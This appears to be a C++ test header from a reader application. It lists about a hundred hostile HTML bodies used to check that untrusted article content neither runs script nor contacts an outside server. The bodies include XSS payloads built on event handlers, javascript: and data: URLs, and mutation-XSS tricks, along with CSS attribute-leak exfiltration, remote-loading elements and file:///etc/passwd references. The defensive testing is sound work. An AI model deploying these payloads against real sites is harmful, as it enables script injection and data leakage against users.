// SPDX-FileCopyrightText: 2026 The Courant authors
// SPDX-License-Identifier: GPL-3.0-or-later
#pragma once

#include <QByteArray>
#include <QList>

namespace courant::test {

/// A body that a hostile source could send. @S stands for the server that must not be reached, @R for a
/// script that tells it ran. `click`: its links and controls are clicked, left and middle.
struct Attack
{
    const char *name;
    QByteArray body;
    bool click = false;
};

inline QList<Attack> attacks()
{
    return {
        // Script
        {"script", "<script>@R</script>"},
        {"script late", "<p>x</p><svg><script>@R</script></svg>"},
        {"script src", "<script src=\"@S/a.js\"></script>"},
        {"script src data", "<script src=\"data:text/javascript,@R\"></script>"},
        {"script module", "<script type=module>@R</script>"},
        {"script module src", "<script type=module src=\"@S/m.js\"></script>"},
        {"img onerror", "<img src=x: onerror=\"@R\">"},
        {"img onload",
            "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onload=\"@R\" onerror=\"@R\">"},
        {"body onload", "</body><body onload=\"@R\">"},
        {"body onpageshow", "<body onpageshow=\"@R\">"},
        {"svg onload", "<svg onload=\"@R\"></svg>"},
        {"svg animate", "<svg><animate onbegin=\"@R\" attributeName=x dur=1s></svg>"},
        {"svg set", "<svg><set onbegin=\"@R\" attributeName=x></svg>"},
        {"svg foreign", "<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=\"@R\"><img "
                        "src=x: onerror=\"@R\"></foreignObject></svg>"},
        {"math", "<math><mtext><table><mglyph><style><img src=x: "
                 "onerror=\"@R\"></style></table></mtext></math><img src=x: onerror=\"@R\">"},
        {"video source", "<video><source onerror=\"@R\"></video>"},
        {"audio", "<audio src=x: onerror=\"@R\"></audio>"},
        {"details", "<details open ontoggle=\"@R\"><summary>s</summary>x</details>"},
        {"input autofocus", "<input autofocus onfocus=\"@R\">"},
        {"marquee", "<marquee onstart=\"@R\">x</marquee>"},
        {"style onload", "<style onload=\"@R\">a{}</style>"},
        {"link onerror", "<link rel=stylesheet href=\"@S/x.css\" onerror=\"@R\">"},
        {"object data", "<object data=\"data:text/html,<script>@R</script>\"></object>"},
        {"object onerror", "<object data=x: onerror=\"@R\"></object>"},
        {"embed", "<embed src=\"data:text/html,<script>@R</script>\">"},
        {"iframe srcdoc", "<iframe srcdoc=\"<script>@R</script>\"></iframe>"},
        {"iframe javascript", "<iframe src=\"javascript:@R\"></iframe>"},
        {"iframe data", "<iframe src=\"data:text/html,<script>@R</script>\"></iframe>"},
        {"iframe onload", "<iframe onload=\"@R\"></iframe>"},
        {"frameset", "<frameset onload=\"@R\"><frame src=\"@S/frame\"></frameset>"},
        {"animation", "<style>@keyframes k{from{opacity:0}}</style><p style=\"animation:k 1s\" "
                      "onanimationstart=\"@R\">x"},
        {"transition", "<p style=\"transition:opacity 10ms\" ontransitionend=\"@R\" onanimationend=\"@R\">x"},
        {"meta refresh javascript", "<meta http-equiv=refresh content=\"0;url=javascript:@R\">"},
        {"meta refresh data",
            "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>@R</script>\">"},
        {"noscript", "<noscript><p title=\"</noscript><img src=x: onerror=@R>\"></noscript>"},
        {"template", "<div><template shadowroot=open><img src=x: onerror=\"@R\"></template></div>"},
        {"template shadow",
            "<div><template shadowrootmode=open><script>@R</script></template></div><script>@R</script>"},
        {"comment end", "<!--><img src=x: onerror=\"@R\">-->"},
        {"title end", "<title></title><img src=x: onerror=\"@R\"></title>"},
        {"xslt", "<?xml-stylesheet href=\"@S/x.xsl\" type=\"text/xsl\"?><img src=x: onerror=\"@R\">"},
        {"import map", "<script type=importmap>{\"imports\":{\"a\":\"@S/a.js\"}}</script><script "
                       "type=module>import 'a'</script>"},
        {"javascript link", "<a href=\"javascript:@R\">go</a>", true},
        {"javascript link spaced", "<a href=\" java\tscript:@R\">go</a>", true},
        {"javascript link blank", "<a target=_blank href=\"javascript:@R\">go</a>", true},
        {"javascript area",
            "<map name=m><area shape=default href=\"javascript:@R\"></map><img usemap=#m width=60 height=60 "
            "src=\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\">",
            true},
        {"svg link",
            "<svg width=60 height=60><a href=\"javascript:@R\"><rect width=60 height=60 /></a></svg>", true},
        {"formaction", "<form><button formaction=\"javascript:@R\">go</button></form>", true},
        {"onclick", "<button onclick=\"@R\" onmousedown=\"@R\" onpointerdown=\"@R\">go</button>", true},
        {"form javascript", "<form action=\"javascript:@R\"><button>go</button></form>", true},
        {"data link", "<a href=\"data:text/html,<script>@R</script>\">go</a>", true},
        // Requests by being shown
        {"img", "<img src=\"@S/i.png\">"},
        {"img srcset", "<img srcset=\"@S/1.png 1x, @S/2.png 2x\">"},
        {"picture", "<picture><source srcset=\"@S/p.webp\"><img></picture>"},
        {"img lowsrc", "<img dynsrc=\"@S/d\" lowsrc=\"@S/l\" src=\"//127.0.0.1:@P/n.png\">"},
        {"img https", "<img src=\"https://127.0.0.1:@P/s.png\">"},
        {"input image", "<input type=image src=\"@S/b.png\">"},
        {"body background", "<table background=\"@S/t.png\"><tr><td background=\"@S/c.png\">x</table>"},
        {"style background", "<p style=\"background:url(@S/s.png)\">x"},
        {"style import", "<style>@import url('@S/i.css');</style>"},
        {"style font", "<style>@font-face{font-family:f;src:url(@S/f.woff)}p{font-family:f}</style><p>x"},
        {"style content", "<style>p::before{content:url(@S/c.png)}</style><p>x"},
        {"style list", "<ul style=\"list-style-image:url(@S/l.png)\"><li>x</ul>"},
        {"style cursor", "<p style=\"cursor:url(@S/c.cur),auto;height:300px\">x"},
        {"style image-set",
            "<p style=\"background:image-set('@S/a.png' 1x)\">x<p style=\"border-image:url(@S/b.png) 1\">y"},
        {"style attribute leak", "<style>input[value^=a]{background:url(@S/leak)}</style><input value=abc>"},
        {"link stylesheet", "<link rel=stylesheet href=\"@S/s.css\">"},
        {"link preload",
            "<link rel=preload as=image href=\"@S/pl.png\"><link rel=modulepreload href=\"@S/mp.js\">"},
        {"link prefetch", "<link rel=prefetch href=\"@S/pf\"><link rel=prerender href=\"@S/pr\"><link "
                          "rel=next href=\"@S/nx\">"},
        {"link preconnect", "<link rel=preconnect href=\"@S\"><link rel=dns-prefetch href=\"@S\">"},
        {"link icon", "<link rel=icon href=\"@S/fav.png\"><link rel=apple-touch-icon href=\"@S/at.png\">"},
        {"link manifest", "<link rel=manifest href=\"@S/m.json\">"},
        {"link import", "<link rel=import href=\"@S/im.html\">"},
        {"iframe", "<iframe src=\"@S/frame\"></iframe>"},
        {"portal", "<portal src=\"@S/portal\"></portal><fencedframe src=\"@S/ff\"></fencedframe>"},
        {"object", "<object data=\"@S/o.swf\"></object>"},
        {"object type", "<object type=\"application/pdf\" data=\"@S/o.pdf\"></object><embed src=\"@S/e.pdf\" "
                        "type=\"application/pdf\">"},
        {"applet", "<applet archive=\"@S/a.jar\" code=x></applet><isindex action=\"@S/i\">"},
        {"video", "<video src=\"@S/v.mp4\" poster=\"@S/p.png\" autoplay></video>"},
        {"audio src", "<audio src=\"@S/a.mp3\" autoplay preload=auto></audio>"},
        {"track", "<video src=\"@S/v.mp4\" autoplay><track default src=\"@S/t.vtt\"></video>"},
        {"svg image", "<svg><image href=\"@S/si.png\" width=9 height=9 /></svg>"},
        {"svg use", "<svg><use href=\"@S/u.svg#a\" /></svg>"},
        {"svg feImage", "<svg><filter id=f><feImage href=\"@S/fe.png\" /></filter><rect width=9 height=9 "
                        "filter=\"url(#f)\" /></svg>"},
        {"svg fill",
            "<svg><rect width=9 height=9 style=\"fill:url(@S/f.svg#a);mask:url(@S/m.svg#a)\" /></svg>"},
        {"meta refresh", "<meta http-equiv=refresh content=\"0;url=@S/refresh\">"},
        {"meta refresh data image",
            "<meta http-equiv=refresh content=\"0;url=data:text/html,<img src=@S/r>\">"},
        {"meta csp report", "<meta http-equiv=Content-Security-Policy content=\"default-src 'self'; "
                            "report-uri @S/report\"><img src=\"@S/x.png\">"},
        {"meta set-cookie", "<meta http-equiv=Set-Cookie content=\"a=b\"><img src=\"@S/cookie.png\">"},
        {"meta accept-ch", "<meta http-equiv=Accept-CH content=DPR><meta http-equiv=delegate-ch "
                           "content=x><img src=\"@S/ch.png\">"},
        {"base", "<base href=\"@S/base/\"><img src=\"rel.png\"><a href=\"x\">go</a>", true},
        {"frame in template", "<template><img src=\"@S/t.png\"></template><img src=\"@S/t2.png\">"},
        {"beacon attribute", "<img src=\"@S/1.png\" loading=lazy><img attributionsrc=\"@S/attr\">"},
        {"file image", "<img src=\"file:///etc/hostname\"><iframe src=\"file:///etc/passwd\"></iframe><img "
                       "src=\"@S/also.png\">"},
        {"other article",
            "<iframe src=\"article://a1/\"></iframe><img src=\"article://a1/\"><img src=\"@S/also.png\">"},
        // Requests by a click
        {"link ping", "<a ping=\"@S/ping\" href=\"#x\">go</a>", true},
        {"link download", "<a download=x.sh href=\"data:text/plain,hello\">go</a>", true},
        {"link download remote", "<a download href=\"@S/d.bin\">go</a>", true},
        {"link target", "<a target=_blank rel=opener href=\"@S/w\">go</a>", true},
        {"link top", "<a target=_top href=\"@S/w\">go</a>", true},
        {"form get", "<form action=\"@S/form\"><input name=a value=b><button>go</button></form>", true},
        {"form post", "<form method=post action=\"@S/form\"><button>go</button></form>", true},
        {"form blank", "<form target=_blank action=\"@S/form\"><button>go</button></form>", true},
        {"form dialog",
            "<dialog open><form method=dialog action=\"@S/f\"><button>go</button></form></dialog>", true},
        {"form label", "<form id=f action=\"@S/label\"></form><button form=f>go</button>", true},
        {"image map",
            "<a href=\"@S/map\"><img ismap width=60 height=60 "
            "src=\"data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\"></a>",
            true},
        {"file chooser", "<input type=file><input type=color><input type=date>", true},
        {"whole page link", "<a href=\"@S/all\" style=\"position:fixed;inset:0\">go</a>", true},
        {"legacy frame link", "<a href=\"@S/math\" target=f>go</a><iframe name=f></iframe>", true},
        {"link file", "<a href=\"file:///etc/passwd\">go</a>", true},
        {"link view-source", "<a href=\"view-source:@S/vs\">go</a>", true},
    };
}

} // namespace courant::test
